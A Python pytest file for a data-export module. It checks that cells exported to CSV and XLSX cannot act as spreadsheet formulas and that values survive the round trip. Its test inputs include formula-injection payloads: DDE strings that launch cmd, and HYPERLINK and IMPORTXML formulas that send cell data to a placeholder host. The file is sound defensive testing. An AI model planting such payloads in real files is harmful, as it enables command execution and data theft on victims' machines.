"""What people take away opens in a spreadsheet without running anything, and comes back unchanged."""

import csv
import io
from datetime import UTC, date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
import python_calamine
from hypothesis import given, settings
from hypothesis import strategies as st

from cx.download import ROW_LIMIT, escape, to_csv, to_xlsx, unescape
from cx.errors import CxError

RISKY = [
    "=1+1",
    "=cmd|'/C calc'!A1",
    "+cmd|'/C calc'!A1",
    "-3+2+cmd|'/C notepad'!A1",
    "@SUM(2+2)*cmd|'/C calc'!A1",
    '=HYPERLINK("http://example.invalid/?q="&B1,"눌러요")',
    '=IMPORTXML(CONCAT("http://example.invalid/?w=",B2),"//b")',
    "\t=2+2",
    "\r=2+2",
    "  =2+2",
    "＝2+2",
    "＋2",
    "－2",
    "＠sum",
    "'=2+2",
    "-해지할래요",
    "+82 2 000 0000",
    "=ㅅ= 좋아요",
    "'",
    "\n@here",
]
HARMLESS = [
    '"=2+2"',
    ";=2+2",
    "%0A=2+2",
    'DDE ("cmd";"/C calc";"y")',
    "a=b",
    "환불 -안 돼요",
    "",
    "3-2",
    "#REF!",
    "_x0041_",
]


def rows_of(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", RISKY)
def test_a_formula_is_text_in_csv_and_comes_back(text):
    header, row = rows_of(to_csv(pd.DataFrame({"body": [text]})))
    assert header == ["body", "csv_escape"]
    assert row == ["'" + text, "apostrophe"]
    assert unescape(row[0]) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert rows_of(to_csv(pd.DataFrame({"body": [text]})))[1][0] == text


@settings(deadline=None)
@given(st.text())
def test_unescape_undoes_escape(text):
    assert unescape(escape(text)) == text


def test_csv_begins_with_the_mark_that_excel_needs():
    assert to_csv(pd.DataFrame({"제목": ["가"]})).startswith(b"\xef\xbb\xbf\xec\xa0\x9c")


def test_headers_are_escaped_too():
    assert rows_of(to_csv(pd.DataFrame({"=cmd": [1], "-분류": [2]})))[0] == ["'=cmd", "'-분류", "csv_escape"]


def test_an_older_escape_column_is_not_doubled():
    frame = pd.DataFrame({"a": ["x"], "csv_escape": ["apostrophe"]})
    assert rows_of(to_csv(frame)) == [["a", "csv_escape"], ["x", "apostrophe"]]


def test_typed_values_in_csv():
    frame = pd.DataFrame(
        {
            "count": pd.array([-3, None], dtype="Int64"),
            "float": [-0.5, float("nan")],
            "whole": [12.0, float("inf")],
            "flag": pd.array([True, None], dtype="boolean"),
            "at": [pd.Timestamp("2026-03-01 09:00:00"), pd.NaT],
            "day": [date(2026, 3, 1), None],
            "zoned": [datetime(2026, 3, 1, 9, tzinfo=UTC), None],
            "tags": [["가", "나"], None],
        }
    )
    _, first, second = rows_of(to_csv(frame))
    assert first == [
        "-3",
        "-0.5",
        "12",
        "true",
        "2026-03-01 09:00:00",
        "2026-03-01",
        "2026-03-01 09:00:00+00:00",
        '["가", "나"]',
        "apostrophe",
    ]
    assert second == ["", "", "inf", "", "", "", "", "", "apostrophe"]


def test_numbers_of_numpy_in_a_mixed_column_are_numbers():
    frame = pd.DataFrame({"n": pd.Series([np.int64(-3), np.float64(0.5), "-x"], dtype=object)})
    assert [row[0] for row in rows_of(to_csv(frame))] == ["n", "-3", "0.5", "'-x"]


def test_line_breaks_and_quotes_survive():
    text = '첫 줄\r\n둘째 "줄", 끝\n'
    assert rows_of(to_csv(pd.DataFrame({"body": [text]})))[1][0] == text


def xlsx_rows(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()], book


@pytest.mark.parametrize("text", [text for text in RISKY + HARMLESS if text and "\r" not in text])
def test_xlsx_holds_true_strings(text):
    data = to_xlsx(pd.DataFrame({"=머리": [text]}), "=시트")
    rows, book = xlsx_rows(data)
    cell = book.worksheets[0].cell(2, 1)
    assert cell.data_type != "f"
    assert book.worksheets[0].cell(1, 1).data_type != "f"
    read = python_calamine.load_workbook(io.BytesIO(data)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert read == [["=머리"], [text]]
    assert not book.worksheets[0]._hyperlinks
    assert len(rows) == 2


def test_xlsx_keeps_types_and_long_numbers():
    frame = pd.DataFrame(
        {
            "id": ["00123"],
            "n": [-5],
            "share": [0.25],
            "big": [12345678901234567],
            "ok": [True],
            "at": [pd.Timestamp("2026-03-01 09:30:00")],
            "day": [date(2026, 3, 1)],
            "none": [None],
            "url": ["http://example.invalid/"],
        }
    )
    rows, _ = xlsx_rows(to_xlsx(frame, "s"))
    assert rows[1] == [
        "00123",
        -5,
        0.25,
        "12345678901234567",
        True,
        datetime(2026, 3, 1, 9, 30),  # noqa: DTZ001 - cells have no zone
        datetime(2026, 3, 1),  # noqa: DTZ001 - cells have no zone
        None,
        "http://example.invalid/",
    ]


def test_control_characters_do_not_break_the_sheet():
    data = to_xlsx(pd.DataFrame({"a": ["x\x07y\x1b[31m", "\ud800z"]}, dtype=object), "a")
    rows, _ = xlsx_rows(data)
    assert len(rows) == 3
    assert rows[2] == ["?z"]


def test_a_text_longer_than_a_cell_says_in_xlsx_that_it_is_cut():
    frame = pd.DataFrame({"a": ["가" * 40_000, "나" * 32_767]})
    rows, _ = xlsx_rows(to_xlsx(frame, "a"))
    assert len(rows[1][0]) == 32_767
    assert rows[1][0].endswith("CSV에] [cut at the limit of Excel: the CSV has it whole]")
    assert rows[2][0] == "나" * 32_767
    assert len(rows_of(to_csv(frame))[1][0]) == 40_000


@pytest.mark.parametrize(
    ("name", "title"), [("a/b:c", "a b c"), ("", "CX"), ("'x'", "x"), ("History", "CX"), ("가" * 40, "가" * 31)]
)
def test_any_sheet_name_is_made_valid(name, title):
    assert xlsx_rows(to_xlsx(pd.DataFrame({"a": [1]}), name))[1].sheetnames == [title]


@pytest.mark.parametrize("write", [to_csv, lambda frame: to_xlsx(frame, "s")])
def test_more_rows_than_allowed_are_refused_with_both_numbers(write):
    with pytest.raises(CxError) as raised:
        write(pd.DataFrame({"a": range(ROW_LIMIT + 1)}))
    assert raised.value.key == "download.too_many_rows"
    assert "100,001" in raised.value.text("ko")
    assert "100,000" in raised.value.text("en")


def test_no_rows_still_have_a_header():
    frame = pd.DataFrame({"a": [], "b": []})
    assert rows_of(to_csv(frame)) == [["a", "b", "csv_escape"]]
    assert xlsx_rows(to_xlsx(frame, "s"))[0] == [["a", "b"]]
